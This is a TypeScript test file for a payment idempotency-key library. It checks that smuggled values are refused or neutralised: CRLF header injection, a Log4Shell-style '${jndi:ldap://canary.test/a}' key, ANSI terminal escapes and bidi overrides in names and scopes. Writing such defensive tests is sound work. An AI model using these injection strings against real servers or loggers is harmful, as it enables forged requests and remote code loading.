import { mintKey } from '@onceward/core';
import { createEngine, memoryStore } from '@onceward/server';
import { expect, test } from 'vitest';
import { openCli } from '../../packages/cli/test/open-cli.ts';
import { codeOf, openBank } from './open-bank.ts';
import { paymentWith, rawRequest } from './raw-request.ts';

test.each(['\n', '\r', '\x1b[2J', '\x7f', '\0', '\u2028'])(
  'S16: a key with %j is refused, also where keys may be anything',
  async (control) => {
    await using bank = await openBank({ keyFormat: 'opaque', keyRetentionMs: Infinity });
    const line = `idempotency-key: "a-long-enough-key${control}info: paid"`;
    const { status } = await rawRequest(bank.url, paymentWith(line));

    expect(status).toBe(400);
    expect(bank.ledger).toEqual([]);
  },
);

test('S16: a key that is a command for a log is accepted as a text, and is logged nowhere', async () => {
  await using bank = await openBank({ keyFormat: 'opaque', keyRetentionMs: Infinity });
  const headers = { 'idempotency-key': '"${jndi:ldap://canary.test/a}"' };
  const first = await bank.send({ headers });
  const reused = await bank.send({ headers, input: { cents: 2 } });

  expect(first.status).toBe(200);
  expect(codeOf(reused)).toBe('IDEMPOTENCY_KEY_REUSED');
  expect(JSON.stringify([bank.events, reused.text])).not.toContain('jndi');
});

test.each(['pay\nrefund', 'pay\x1b[31m', 'p\u202eay', 'pay refund', ''])(
  'S16: a mutation cannot be called %j',
  (operation) => {
    const engine = createEngine({ store: memoryStore() });
    expect(() => engine.mutation({ operation, effect: 'natural' })).toThrow(/`operation`/);
  },
);

test('S16: a terminal shows a hostile scope as text', async () => {
  await using cli = await openCli();
  const engine = createEngine({ store: cli.store });
  const pay = engine.mutation({ operation: 'pay', effect: 'external' });
  const scope = 'alice\x1b]0;owned\x07\r\nfake line\u202e';
  await pay.runOnce({ scope, key: mintKey() }, () => 'paid');
  const listed = await cli.run('keys');

  expect(listed.code).toBe(0);
  expect(listed.stdout).toContain('fake line');
  // eslint-disable-next-line no-control-regex
  expect(listed.stdout).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f\u202e]/);
  expect(listed.stdout.split('\n').some((line) => line.startsWith('fake'))).toBe(false);
});
